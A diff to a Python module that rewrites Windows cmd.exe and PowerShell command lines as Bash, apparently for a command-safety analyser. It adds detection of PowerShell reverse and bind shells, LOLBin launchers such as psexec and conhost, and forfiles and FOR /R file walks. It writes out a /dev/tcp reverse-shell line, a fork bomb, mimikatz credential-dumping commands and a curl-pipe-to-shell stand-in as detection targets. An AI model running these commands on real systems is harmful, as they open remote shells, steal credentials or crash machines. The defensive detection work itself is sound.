@@ -477,6 +477,11 @@ def to_bash(code: str, depth: int = 0) -> str:
         # (probe round 33, residuals34) mimikatz' commands, whatever the program is called
         # (C:\Tools\m.exe 'sekurlsa::logonpasswords', Invoke-Mimikatz -Command 'lsadump::sam')
         return "mimikatz; " + to_bash(code, 1)
+    if _PS_SOCKET.search(code) and _PS_RUNS_READ.search(code):
+        # (probe round 35, published9) a TCP client or listener whose data is run (Nishang's
+        # and revshells' one-liners: iex $data, Invoke-Expression, [scriptblock]::Create,
+        # a cmd/powershell process with its standard input redirected): a reverse or bind shell
+        return REMOTE_SHELL
     if "\x00" in code:
         # an expression and the member it calls ((Get-Item C:\\).Delete($true))
         expr, _, member = code.partition("\x00")
@@ -669,6 +674,14 @@ _ITEM_DELETE = re.compile(r"(?i)\((?:get-item|gi|get-childitem|gci|ls|dir)\s+(?:
                           r"\s*\.delete\(")
 
 
+# (probe round 35, published9) a PowerShell reverse or bind shell: a socket (TcpClient,
+# TcpListener, UdpClient, Net.Sockets.Socket) and what it reads run as code; the Bash that
+# stands for it (an interactive shell on a /dev/tcp socket) is denied in every mode
+_PS_SOCKET = re.compile(r"(?i)\b(?:tcpclient|tcplistener|udpclient|net\.sockets\.socket)\b")
+_PS_RUNS_READ = re.compile(r"(?i)\b(?:iex|invoke-expression)\b(?:\s+-c(?:ommand)?)?[\s(]*\$|"
+                           r"\[scriptblock\]\s*::\s*create\s*\(\s*\$|redirectstandardinput|"
+                           r"\binvoke-command\b[^;|]*-scriptblock\s*\(?\s*\[scriptblock\]")
+REMOTE_SHELL = "sh -i >& /dev/tcp/0.0.0.0/0 0>&1"
 _MIMIKATZ_TEXT = re.compile(r"(?i)\b(?:sekurlsa|lsadump|dpapi|vault|kerberos)::\w+")
 
 
@@ -1693,7 +1706,8 @@ _FORK_BOMB = ":(){ :|:& };:"
 WINDOWS_PROGRAMS = frozenset({
     "cmd", "del", "erase", "rd", "format", "cipher", "diskpart", "vssadmin", "wmic", "bcdedit", "reg", "takeown",
     "icacls", "cacls", "shutdown", "schtasks", "sc", "certutil", "bitsadmin", "mshta", "rundll32", "regsvr32",
-    "msiexec", "wbadmin", "fsutil", "wevtutil", "robocopy", "xcopy", "powershell", "pwsh"})
+    "msiexec", "wbadmin", "fsutil", "wevtutil", "robocopy", "xcopy", "powershell", "pwsh",
+    "forfiles", "conhost", "pcalua", "scriptrunner", "runas", "psexec", "psexec64", "paexec", "hh"})
 # %VARIABLE%s that name a place (cmd.exe's spelling of $env:)
 _CMD_VAR = re.compile(r"%([^%\s]+)%")
 _CMD_SWITCHES = re.compile(r"(?:/[A-Za-z])+")   # (del's /s /q /f /a, one by one or run together: /s/q)
@@ -1918,6 +1932,12 @@ def _cmd_statement(text: str, depth: int, variables: dict[str, str], piped: bool
     if not args:
         return "true" + rd
     verb = _unquote(args[0]).lower()
+    glued = _CMD_GLUED_SWITCH.match(verb)
+    if glued:
+        # (rd/s/q C:\, del/f/s/q x, dir/s: cmd.exe ends an internal command's name at the
+        # first "/"; probe round 35, published9)
+        verb = glued.group(1)
+        args = [verb, glued.group(2)] + args[1:]
     if "%" in verb or "\\" in verb or "/" in verb:
         # (%COMSPEC%, %windir%\system32\cmd.exe, C:\Windows\System32\WindowsPowerShell\v1.0\
         # powershell.exe: Windows' own program by its path is that program; probe round 31)
@@ -1952,6 +1972,9 @@ def _cmd_statement(text: str, depth: int, variables: dict[str, str], piped: bool
         if not m:
             return UNKNOWN
         spec = m.group(1)
+        walk = _for_walk(text[:m.start()], spec, m.group(2), opts, depth, variables) if "/r" in opts else None
+        if walk is not None:
+            return walk + rd
         # (a FOR inside a FOR's body is read once, its variable unknown: the work stays linear)
         items = _for_items(text[:m.start()], spec, opts) if depth <= 1 and not re.search(
             r"(?i)(?:^|[\s&|(])for\s", m.group(2)) else None
@@ -2027,8 +2050,36 @@ def _cmd_statement(text: str, depth: int, variables: dict[str, str], piped: bool
                                                        else shlex.quote(_unquote(a)) for a in rest]) + rd
 
 
+# an internal command of cmd.exe with its switches run on (rd/s/q, del/q, dir/s)
+_CMD_GLUED_SWITCH = re.compile(r"(?i)^(rd|rmdir|del|erase|dir|md|mkdir|copy|xcopy|move|type|cd|chdir|pushd)(/\S+)$")
 # cmd.exe's switches run together with its /C, /K or /R and the line (/q/c"rd ...", /crd)
 _CMD_GLUED = re.compile(r'(?is)^(?:/[abd-jl-qs-z](?::[^/\s"]*)?)*/[ckr](?!:)(.*)$')
+
+
+def _each_file(root: str, mask: str | None, recurse: bool, command_bash: str, file_word: str, depth: int) -> str:
+    """find ROOT -exec sh -c SCRIPT sh {} ';': a command run on each file of a directory
+    (of its tree when ``recurse``), the file being FILE_WORD in COMMAND_BASH (forfiles' @path,
+    FOR /R's %f), so that find's analysis of what such a script does to each file holds."""
+    script = re.sub(r"'?" + re.escape(file_word) + r"'?", '"$1"', command_bash)
+    tests = "" if recurse else " -maxdepth 1"
+    if mask and mask not in ("*", "*.*"):
+        tests += " -iname " + shlex.quote(mask)
+    return f"find {root}{tests} -exec sh -c {shlex.quote(script)} sh {{}} ';'"
+
+
+def _for_walk(head: str, spec: str, body: str, opts: set[str], depth: int, variables: dict[str, str]) -> str | None:
+    """FOR /R [ROOT] %f IN (SET) DO BODY (probe round 35, published9): BODY run on each
+    file of ROOT's tree that SET matches, as find ROOT -exec does (_each_file)."""
+    hm = re.search(r'(?i)/r\s+(?:("[^"]*"|%[A-Za-z_]\w*%\S*|[^\s%/]\S*)\s+)?(%%?)([A-Za-z])\s*$', head)
+    if hm is None or depth > 2:
+        return None
+    root = _cmd_path(_unquote(hm.group(1))) if hm.group(1) else "."
+    var = hm.group(3)
+    marker = "FORFILE7f3a"
+    body = re.sub(r"%%?(?:~[A-Za-z$:]*?)?" + re.escape(var) + r"(?![A-Za-z0-9_])", marker, body)
+    masks = spec.split()
+    return _each_file(root, masks[0] if len(masks) == 1 else None, True,
+                      cmd_to_bash(body, depth + 1, dict(variables)), marker, depth)
 
 
 def _for_items(head: str, spec: str, opts: set[str]) -> list[str] | None:
@@ -2219,7 +2270,7 @@ def windows_program(argv: list[str], depth: int = 0, piped: bool = False) -> str
             after = args[args.index(urls[0]) + 1:]
             return f"curl -fsSL {shlex.quote(urls[0])}" + (f" -o {p(after[0])}" if after else "")
         return None
-    if name in ("mshta", "regsvr32", "msiexec", "rundll32"):
+    if name in ("mshta", "regsvr32", "msiexec", "rundll32", "hh"):
         target = " ".join(args)
         if re.search(r"(?i)https?://|ftp://|\\\\", target):
             return "curl -fsSL https://unknown | sh"   # (a script or package fetched and run)
@@ -2249,6 +2300,48 @@ def windows_program(argv: list[str], depth: int = 0, piped: bool = False) -> str
         return None
     if name == "xcopy" and len(plain) >= 2:
         return f"cp -r -- {p(plain[0])} {p(plain[1])}"
+    if name in ("pcalua", "scriptrunner", "runas", "psexec", "psexec64", "paexec"):
+        # (probe round 35, published9) Windows' launchers (MITRE T1202, LOLBAS): pcalua -a PROG
+        # [-c ARGS], scriptrunner -appvscript PROG ARGS, runas [/user:U ...] "CMDLINE", psexec
+        # [\\host] [-s -u U ...] PROG ARGS run that command (psexec's on another machine, as
+        # ssh's is read)
+        words: list[str] = []
+        if name == "pcalua":
+            prog = _win_opt([a if not a.startswith("-") else "/" + a[1:] for a in args], "/a")
+            more = _win_opt([a if not a.startswith("-") else "/" + a[1:] for a in args], "/c")
+            words = [prog] + ([more] if more else []) if prog else []
+        elif name == "scriptrunner":
+            k = next((i for i, a in enumerate(low) if a.lstrip("-/") in ("appvscript", "appvcript")), None)
+            words = args[k + 1:] if k is not None else []
+        elif name == "runas":
+            words = [a for a in args if not a.startswith("/")][-1:]
+        else:
+            k = 0
+            while k < len(args) and (args[k].startswith(("-", "\\")) or args[k].startswith("@")):
+                k += 2 if low[k] in ("-u", "-p", "-w", "-n", "-r", "-a", "-g", "-cpu") else 1
+            words = args[k:]
+        if not words:
+            return None
+        line = " ".join(f'"{x}"' if " " in x and '"' not in x and len(words) > 1 else x for x in words)
+        return "( " + cmd_to_bash(line, depth + 1) + " )"
+    if name == "conhost":
+        # (probe round 35, published9) conhost.exe [--headless] [--width N ...] CMDLINE starts
+        # CMDLINE in a console of its own (a LOLBin that hides the parent): that command
+        k = 0
+        while k < len(args) and args[k].startswith("--"):
+            k += 1 if args[k] in ("--headless", "--") or "=" in args[k] else 2
+        if k >= len(args):
+            return None
+        line = " ".join(f'"{x}"' if " " in x and '"' not in x else x for x in args[k:])
+        return "( " + cmd_to_bash(line, depth + 1) + " )"
+    if name == "forfiles":
+        # (probe round 35, published9) forfiles /p DIR [/s] [/m MASK] /c "cmd /c del @path" runs
+        # its command on each file of DIR (of the tree with /s), as find DIR -exec does: the
+        # command's @path, @file, @fname and @relpath are the file (find's {} handed to sh -c)
+        where = _win_opt(args, "/p") or "."
+        command = re.sub(r"(?i)@(?:path|file|fname|relpath)\b", "FORFILE7f3a", _win_opt(args, "/c") or "cmd /c echo @file")
+        return _each_file(p(where), _win_opt(args, "/m"), "/s" in flags, cmd_to_bash(command, depth + 1),
+                          "FORFILE7f3a", depth)
     if name in ("fsutil",):
         return DISK_WIPE if "deletejournal" in low or ("setzerodata" in low) else None
     return None
